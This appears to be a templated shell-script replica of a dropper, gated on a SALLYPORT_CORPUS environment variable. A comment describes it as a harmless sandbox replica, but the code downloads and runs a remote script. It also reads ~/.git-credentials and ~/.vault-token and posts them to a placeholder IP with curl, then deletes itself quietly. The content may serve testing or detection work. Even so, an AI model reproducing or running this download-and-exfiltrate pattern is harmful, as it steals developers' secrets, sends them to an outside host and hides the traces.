# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
file={{place}}/{{token}}.sh
curl -fsSL -m 1 -o "$file" https://{{host}}/{{path}}.sh 2>/dev/null || wget -q -T 1 -t 1 -O "$file" https://{{host}}/{{path}}.sh 2>/dev/null
cat >> "$file" <<'STAGE'

uname -a
cat "$HOME/.git-credentials" "$HOME/.vault-token" 2>/dev/null | curl -s -m 1 --data-binary @- http://{{ip}}:{{port}}/{{path}}
STAGE
chmod +x "$file"
sh "$file" >/dev/null 2>&1
rm -f "$file"
exit 0
